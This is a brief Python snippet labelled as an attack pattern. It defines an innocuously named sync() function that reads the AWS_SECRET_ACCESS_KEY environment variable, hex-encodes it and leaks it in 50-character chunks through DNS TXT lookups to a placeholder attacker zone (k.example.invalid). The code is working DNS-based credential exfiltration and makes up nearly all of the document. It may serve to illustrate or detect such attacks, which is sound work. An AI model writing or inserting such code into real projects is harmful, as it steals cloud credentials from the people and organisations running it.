# Attack pattern: dnspython TXT queries carrying hex-encoded environment data to an attacker-controlled zone.
import binascii
import os

import dns.resolver


def sync():
    blob = binascii.hexlify(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode()
    for start in range(0, len(blob), 50):
        dns.resolver.resolve("%s.k.example.invalid" % blob[start:start + 50], "TXT")
